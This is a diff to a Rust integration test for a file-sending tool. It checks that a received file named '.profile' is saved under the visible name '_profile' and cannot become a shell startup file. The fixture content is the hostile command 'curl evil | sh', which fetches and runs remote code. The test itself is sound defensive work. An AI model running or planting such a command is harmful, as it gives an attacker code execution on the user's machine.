@@ -104,6 +104,23 @@ fn a_file_reaches_every_device_of_the_contact_and_of_the_sender_byte_for_byte() 
     let copy = dir.path().join("phone copy.jpg");
     ok(&phone, &["save", &id[..5], copy.to_str().unwrap()]);
     assert_eq!(std::fs::read(&copy).unwrap(), sent);
+    // A name that would hide the file, or make it a configuration file of the
+    // directory's (a `.profile` saved into a home): saved under a visible name.
+    let hidden = write(dir.path(), ".profile", b"curl evil | sh");
+    ok(
+        &laptop,
+        &["send", "bob", "--file", hidden.to_str().unwrap()],
+    );
+    ok(&bob, &["sync"]);
+    let files = json(&bob, &["files", "--json"]);
+    assert_eq!(files[0]["name"], ".profile", "the name as sent is shown");
+    let id = files[0]["id"].as_str().unwrap().to_owned();
+    ok(&bob, &["save", &id, downloads.to_str().unwrap()]);
+    assert!(!downloads.join(".profile").exists());
+    assert_eq!(
+        std::fs::read(downloads.join("_profile")).unwrap(),
+        b"curl evil | sh"
+    );
     // Ids that name no file.
     fails(&bob, &["save", "ffffffff"], 3);
     fails(&bob, &["save", "zz"], 3);
